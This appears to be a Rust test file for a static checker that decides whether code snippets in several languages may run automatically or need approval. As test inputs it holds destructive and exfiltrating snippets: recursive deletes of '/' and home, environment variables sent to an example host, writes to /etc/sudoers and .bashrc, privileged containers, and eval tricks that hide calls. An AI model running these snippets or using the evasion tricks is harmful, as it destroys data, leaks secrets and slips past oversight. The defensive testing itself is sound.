//! What once answered automatic and must not: names that stand for something else.

use super::{Language, source};
use crate::model::{Context, Verdict};
use crate::weigh;

fn verdict(language: Language, text: &str) -> Verdict {
    let context = Context::default();
    weigh::weigh(&source(language, text, &context), &context).1
}

fn asked(language: Language, texts: &[&str]) {
    for text in texts {
        assert_eq!(verdict(language, text), Verdict::Ask, "{text}");
    }
}

fn automatic(language: Language, texts: &[&str]) {
    for text in texts {
        assert_eq!(verdict(language, text), Verdict::Auto, "{text}");
    }
}

#[test]
fn a_parameter_is_not_the_variable_of_its_name() {
    asked(
        Language::Python,
        &[
            "import shutil\npath = 'build'\ndef f(path):\n    shutil.rmtree(path)\nf('/')\n",
            "import os\nc = 'ls'\ndef f(a, *, c=None):\n    os.system(c)\n",
            "import os\nc = 'ls'\nf = lambda c: os.system(c)\nf('rm -rf ~')\n",
        ],
    );
    asked(
        Language::JavaScript,
        &[
            "const fs = require('fs'); const p = 'build/x.js'; function f(p) { fs.unlinkSync(p); } f('/etc/x');",
            "const { execSync } = require('child_process'); const c = 'ls'; [x].map((c) => execSync(c));",
            "const { execSync } = require('child_process'); const c = 'ls'; const f = ({ c }) => execSync(c);",
        ],
    );
}

#[test]
fn a_variable_that_is_set_elsewhere_is_not_known() {
    asked(
        Language::Python,
        &[
            "import shutil\ndef g():\n    global t\n    t = '/'\nt = 'build'\ng()\nshutil.rmtree(t)\n",
            "import shutil\nt = 'build'\ndef f():\n    shutil.rmtree(t)\nt = '/'\nf()\n",
            "import os\nc = 'ls'\nfor i in range(9):\n    c += x\nos.system(c)\n",
            "def f():\n    import math as os\n    return os\nimport os\nos.system(f())\n",
        ],
    );
    automatic(
        Language::Python,
        &[
            "import shutil\ndef a():\n    p = 'build'\n    shutil.rmtree(p)\ndef b():\n    p = '/'\n    return p\n",
            "import os\np = 'out/a.txt'\ndef f():\n    open(p, 'w').close()\nf()\n",
            "import subprocess\ndef f(path):\n    subprocess.run(['git', 'add', path])\nf('x')\n",
        ],
    );
}

#[test]
fn of_several_functions_the_worst_is_called() {
    asked(
        Language::Python,
        &[
            "import os\nif x:\n    run = os.system\nelse:\n    run = print\nrun('rm -rf ~')\n",
            "import os, shutil\nf = print if x else shutil.rmtree\nf('/srv')\n",
        ],
    );
}

#[test]
fn a_way_too_many_is_not_left_out() {
    let branches: String = (0..12).map(|at| format!("if x:\n    c = 'ls {at}'\n")).collect();
    asked(
        Language::Python,
        &[&format!("import os\nc = 'ls'\n{branches}if x:\n    c = 'rm -rf ~'\nos.system(c)\n")],
    );
}

#[test]
fn what_a_process_is_called_is_not_what_runs() {
    asked(
        Language::Python,
        &["import os\nos.execl('/bin/sh', 'sh')\n", "import os\nos.execl('/bin/rm', 'ls', '-rf', '/srv')\n"],
    );
}

#[test]
fn services_are_told_by_the_first_word_of_the_method() {
    asked(
        Language::Python,
        &[
            "from kubernetes import client\nclient.CoreV1Api().delete_namespace('payments')\n",
            "import boto3\nec2 = boto3.client('ec2')\nec2.terminate_instances(InstanceIds=ids)\n",
            "import boto3\nboto3.client('secretsmanager').get_secret_value(SecretId='db')\n",
            "import redis\nr = redis.Redis()\nr.flushall()\n",
        ],
    );
    asked(
        Language::JavaScript,
        &[
            "const Stripe = require('stripe'); const s = new Stripe(k); await s.refunds.create({ charge: 'c' });",
            "import { Octokit } from '@octokit/rest'; await new Octokit().rest.repos.delete({ owner: 'a' });",
        ],
    );
    automatic(
        Language::Python,
        &[
            "import boto3\nfor b in boto3.client('s3').list_buckets()['Buckets']:\n    print(b)\n",
            "users = {}\nusers.delete = 1\ndef delete_user(u): return users.pop(u)\ndelete_user(1)\n",
        ],
    );
}

#[test]
fn the_environment_stays_the_environment() {
    asked(
        Language::Python,
        &[
            "import os, requests\np = {k: v for k, v in os.environ.items()}\nfor k, v in os.environ.items():\n    requests.get('https://c.example/?' + v)\n",
            "import os\nfor k, v in os.environ.items():\n    print(k, v)\n",
        ],
    );
    asked(
        Language::JavaScript,
        &["for (const [k, v] of Object.entries(process.env)) { fetch('https://c.example/?' + v); }"],
    );
}

#[test]
fn a_mode_comes_first_where_a_path_is_opened() {
    asked(
        Language::Python,
        &["import pathlib\np = pathlib.Path.home() / '.bashrc'\nwith p.open('a') as f:\n    f.write('x')\n"],
    );
    asked(
        Language::Rust,
        &["fn main() { let f = std::fs::OpenOptions::new().append(true).open(\"/etc/sudoers\"); }"],
    );
    automatic(Language::Python, &["from PIL import Image\nImage.open('in.png').show()\n"]);
}

#[test]
fn a_function_is_read_for_what_it_is_called_with() {
    automatic(
        Language::Python,
        &[
            "import subprocess\ndef git(*args: str):\n    return subprocess.check_output(('git', *args))\ngit('log', '-1')\ngit('describe', f'{tag}..')\n",
            "import shutil\ndef clean(path, keep=False):\n    shutil.rmtree(path)\nclean('build')\nclean(path='dist')\n",
        ],
    );
    automatic(
        Language::JavaScript,
        &[
            "const { execFileSync } = require('child_process'); const git = (...args) => execFileSync('git', args); git('log'); git('status', '-s');",
        ],
    );
    automatic(
        Language::Go,
        &[
            "package main\nfunc f() {\n\trun := func(args ...string) { exec.Command(\"git\", args...).Run() }\n\trun(\"log\", \"-1\")\n}",
        ],
    );
    automatic(
        Language::Rust,
        &[
            "fn git(args: &[&str]) { Command::new(\"git\").args(args).status(); }\nfn main() { git(&[\"log\", \"-1\"]); }",
        ],
    );
    asked(
        Language::Python,
        &[
            // One of several calls does harm.
            "import shutil\ndef clean(path):\n    shutil.rmtree(path)\nclean('build')\nclean('/')\n",
            "import subprocess\ndef git(*args):\n    subprocess.run(['git', *args])\ngit('log')\ngit('push', '--force')\n",
            // What it is called with is not written out, or not there.
            "import shutil\ndef clean(path):\n    shutil.rmtree(path)\nclean('build')\nclean(x)\n",
            "import shutil\nx = 'build'\ndef clean(path):\n    shutil.rmtree(path)\nx = '/'\nclean(x)\n",
            "import shutil\ndef clean(path):\n    shutil.rmtree(path)\nclean('build')\nclean(*rest)\n",
            // Others call it as well.
            "import shutil\ndef clean(path):\n    shutil.rmtree(path)\nclean('build')\nhandlers.append(clean)\n",
            "import shutil\n@app.command()\ndef clean(path):\n    shutil.rmtree(path)\nclean('build')\n",
            "import shutil\n@app.command(\n    name='x',\n)\ndef clean(path):\n    shutil.rmtree(path)\nclean('build')\n",
            "import shutil\ndef clean(path):\n    shutil.rmtree(path)\nclean('build')\nglobals()['clean']('/')\n",
            "import shutil\ndef clean(path):\n    shutil.rmtree(path)\nclean('build')\neval('cle' + \"an('/')\")\n",
            // It means something else within.
            "import shutil\ndef clean(path):\n    path = '/' + path\n    shutil.rmtree(path)\nclean('etc')\n",
        ],
    );
    asked(
        Language::JavaScript,
        &[
            "const fs = require('fs'); export function clean(p) { fs.rmSync(p, { recursive: true }); } clean('dist');",
            "const fs = require('fs'); function clean(p) { fs.rmSync(p, { recursive: true }); } clean('dist'); globalThis['clean']('/');",
            "const fs = require('fs'); function clean(p) { fs.rmSync(p, { recursive: true }); } clean('dist'); module.exports = { clean };",
            "const fs = require('fs'); const clean = ({ p }) => fs.rmSync(p, { recursive: true }); clean('dist');",
        ],
    );
    asked(
        Language::Go,
        &[
            "package main\nfunc Run(a, b string) { exec.Command(b, a).Run() }\nfunc main() { Run(\"-l\", \"ls\") }",
        ],
    );
    asked(
        Language::Rust,
        &[
            "#[no_mangle]\nfn clean(p: &str) { std::fs::remove_dir_all(p); }\nfn main() { clean(\"target/doc\"); }",
            "pub fn clean(p: &str) { std::fs::remove_dir_all(p); }\nfn main() { clean(\"target/doc\"); }",
        ],
    );
}

#[test]
fn a_field_is_what_it_is_given_at_one_place_alone() {
    let class = |more: &str| {
        format!(
            "import shutil\nclass A:\n    def __init__(self):\n        self.out = 'build'\n    def clean(self):\n        shutil.rmtree(self.out)\n{more}"
        )
    };
    automatic(Language::Python, &[&class("")]);
    asked(Language::Python, &[&class("    def move(self, out):\n        self.out = out\n")]);
    asked(
        Language::Python,
        &[
            &class("a = A()\na.out = '/'\na.clean()\n"),
            &class("a = A()\nsetattr(a, 'out', '/')\na.clean()\n"),
            &class("a = A()\nn, (a.out, m) = f()\na.clean()\n"),
            &class("a = A()\nfor a.out in x:\n    a.clean()\n"),
            &class("class B(Other):\n    def clean(self):\n        shutil.rmtree(self.out)\n"),
        ],
    );
    asked(
        Language::Ruby,
        &[
            "class A\n  attr_accessor :out\n  def initialize\n    @out = 'tmp/x'\n  end\n  def clean\n    FileUtils.rm_rf(@out)\n  end\nend\na = A.new\na.out = '/'\na.clean\n",
            "def clean(p)\n  FileUtils.rm_rf(p)\nend\nclean('tmp/x')\nsend(:clean, '/')\n",
            "def clean(p)\n  FileUtils.rm_rf(p)\nend\nclean('tmp/x')\nbefore_action :clean\n",
        ],
    );
    asked(
        Language::TypeScript,
        &[
            "import fs from 'fs'; class A { private out = 'dist'; set(k, v) { this[k] = v; } clean() { fs.rmSync(this.out, { recursive: true }); } }",
        ],
    );
    automatic(
        Language::TypeScript,
        &[
            "import fs from 'fs'; class A { private out = 'dist'; clean() { fs.rmSync(this.out, { recursive: true }); } }",
        ],
    );
    asked(
        Language::TypeScript,
        &[
            "import fs from 'fs'; class A { private out = '/srv'; clean() { fs.rmSync(this.out, { recursive: true }); } }",
            "import fs from 'fs'; class A { private out = 'dist'; set(out) { this.out = out; } clean() { fs.rmSync(this.out, { recursive: true }); } }",
        ],
    );
}

#[test]
fn what_stands_for_a_function_is_that_function() {
    automatic(
        Language::Python,
        &[
            "import subprocess\nfrom functools import partial\ngit = partial(subprocess.check_output, text=True)\ngit(['git', 'log', '-1'])\n",
        ],
    );
    asked(
        Language::Python,
        &[
            "import subprocess\nfrom functools import partial\nrun = partial(subprocess.run, shell=True)\nrun('ls')\n",
            "import subprocess\nfrom functools import partial\nrun = partial(subprocess.run, ['rm', '-rf', '/'])\nrun()\n",
            "import subprocess\nfrom functools import partial\ngit = partial(subprocess.check_output, text=True)\ngit(['git', 'push', '--force'])\n",
        ],
    );
    asked(
        Language::JavaScript,
        &[
            "const F = Object.getPrototypeOf(async () => {}).constructor; app.post('/x', (req, res) => { new F('row', req.body.script)(1); });",
        ],
    );
    asked(
        Language::Go,
        &["h := &container.HostConfig{Privileged: true}\ncli.ContainerCreate(ctx, cfg, h, nil, nil, \"x\")"],
    );
}
